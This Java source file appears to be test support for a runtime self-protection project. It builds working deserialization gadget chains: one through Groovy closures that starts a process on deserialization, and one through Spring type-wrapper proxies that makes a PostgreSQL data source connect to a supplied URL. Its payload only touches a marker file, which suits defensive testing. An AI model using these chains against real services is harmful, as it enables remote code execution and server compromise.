package io.github.raspspring.carrier.jvm;

import java.lang.reflect.Constructor;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Proxy;
import java.lang.reflect.Type;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import javax.sql.DataSource;

/**
 * Streams of objects that run something by proxies whose handlers are part of them. The
 * handler that the JDK has for annotations answers whatever it is given; it can be made
 * here only as the tests open its package.
 */
final class ProxyChains {

	/** What the tests open to put chains together, and old libraries to run at all. */
	static final List<String> OPENED = List.of("--add-opens=java.base/sun.reflect.annotation=ALL-UNNAMED",
			"--add-opens=java.base/java.lang=ALL-UNNAMED", "--add-opens=java.base/java.util=ALL-UNNAMED",
			"--add-opens=java.base/java.io=ALL-UNNAMED", "--add-opens=java.base/java.net=ALL-UNNAMED",
			"--add-opens=java.base/java.text=ALL-UNNAMED", "--add-opens=java.base/java.lang.reflect=ALL-UNNAMED",
			"--add-opens=java.base/java.util.concurrent=ALL-UNNAMED");

	private static final Libraries GROOVY = Libraries.of("groovy-all");

	private static final Libraries SPRING = Libraries.of("spring-core-4.1.4", "spring-beans-4.1.4",
			"commons-logging-1.2", "postgresql-42.3.1");

	private static final String FACTORY = "org.springframework.beans.factory.ObjectFactory";

	private static final String WRAPPER = "org.springframework.core.SerializableTypeWrapper$";

	private ProxyChains() {
	}

	/**
	 * A map whose entries are asked for, which a closure answers by starting a process.
	 */
	static String groovy(Damage damage) throws Exception {
		List<String> command = new ArrayList<>(List.of("touch", damage.marker().toString()));
		Object closure = GROOVY.make("org.codehaus.groovy.runtime.MethodClosure", command, "execute").target();
		Object handler = GROOVY.make("org.codehaus.groovy.runtime.ConvertedClosure", closure, "entrySet").target();
		Object map = Proxy.newProxyInstance(GROOVY.loader(), new Class<?>[] { Map.class }, (InvocationHandler) handler);
		return GadgetChains.write(answering((Map<?, ?>) map));
	}

	/**
	 * A type that is asked for a method by its name, which is that of a data source.
	 */
	static String spring(String url) throws Exception {
		Libraries.Thing source = SPRING.make("org.postgresql.ds.PGSimpleDataSource");
		source.call("setURL", url);
		Object factory = proxy(answering(Map.of("getObject", source.target())), SPRING.load(FACTORY));
		InvocationHandler delegating = (InvocationHandler) SPRING
			.make("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
					factory)
			.target();
		Object type = proxy(delegating, Type.class, DataSource.class);
		Object provider = proxy(answering(Map.of("getType", type)), SPRING.load(WRAPPER + "TypeProvider"));
		Constructor<?> constructor = SPRING.load(WRAPPER + "MethodInvokeTypeProvider").getDeclaredConstructors()[0];
		constructor.setAccessible(true);
		Object asking = constructor.newInstance(provider, Object.class.getMethod("getClass"), 0);
		GadgetChains.set(asking, "methodName", "getConnection");
		return GadgetChains.write(asking);
	}

	static void readGroovy(String input) throws Exception {
		GadgetChains.read(input, GROOVY.loader());
	}

	static void readSpring(String input) throws Exception {
		GadgetChains.read(input, SPRING.loader());
	}

	private static Object proxy(InvocationHandler handler, Class<?>... types) {
		return Proxy.newProxyInstance(SPRING.loader(), types, handler);
	}

	private static InvocationHandler answering(Map<?, ?> answers) throws ReflectiveOperationException {
		Constructor<?> constructor = Class.forName("sun.reflect.annotation.AnnotationInvocationHandler")
			.getDeclaredConstructor(Class.class, Map.class);
		constructor.setAccessible(true);
		return (InvocationHandler) constructor.newInstance(Override.class, answers);
	}

}
